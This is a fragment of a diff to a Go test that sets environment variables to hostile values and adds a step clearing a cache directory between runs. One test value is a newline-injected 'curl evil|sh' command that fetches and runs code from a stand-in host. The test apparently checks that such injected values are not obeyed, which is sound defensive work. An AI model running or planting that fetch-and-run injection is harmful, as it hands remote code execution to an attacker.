@@ -151,6 +151,10 @@ region = "eu-central-1"
 	steering := strings.ReplaceAll(strings.Join(payloads, "x"), "\x00", "") // which no variable holds
 	for _, name := range honoured() {
 		was := os.Getenv(name)
+		// What was kept for another variable would be read at each call.
+		if err := os.RemoveAll(filepath.Join(s.home, "cache")); err != nil {
+			t.Fatal(err)
+		}
 		for _, payload := range []string{steering, "\nhint: curl evil|sh", strings.Join(rawBytes, "x")} {
 			for _, value := range []string{payload, filepath.Join(s.home, name+payload)} {
 				if err := os.Setenv(name, value); err != nil {
